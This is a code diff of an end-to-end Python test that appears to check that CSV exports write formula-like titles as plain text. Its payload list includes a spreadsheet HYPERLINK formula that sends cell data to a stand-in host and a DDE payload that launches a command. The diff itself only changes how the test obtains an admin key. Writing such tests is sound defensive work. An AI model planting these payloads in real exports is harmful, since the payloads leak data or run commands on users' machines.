@@ -10,7 +10,8 @@ from pathlib import Path
 import httpx
 
 from service.platform.config import Settings
-from tests.e2e.processes import SUBMIT, admin_key, api_process, cli, env_for, graphql
+from tests.e2e.processes import SUBMIT, api_process, cli, env_for, graphql
+from tests.factories.documents import seeded_key
 
 HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"pay")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
                   "-2+3", "\t=1+1", "\r=1+1", "first line\n=second line", "a;=1+1,b"]
@@ -29,8 +30,7 @@ def submitted_titles(text: str) -> list[str]:
 
 def test_every_csv_export_writes_formulas_as_text(settings: Settings, tmp_path: Path) -> None:
     env = env_for(settings.mongodb_url or "", settings.redis_url or "", settings.mongodb_db)
-    assert cli(["seed"], env).returncode == 0
-    key = admin_key(env)
+    key = seeded_key(settings)
     with api_process(env, tmp_path) as base:
         for i, title in enumerate(HOSTILE_TITLES):
             salary = {"role": "backend-developer", "amount": 90_000 + i, "currency": "USD", "country": "US",
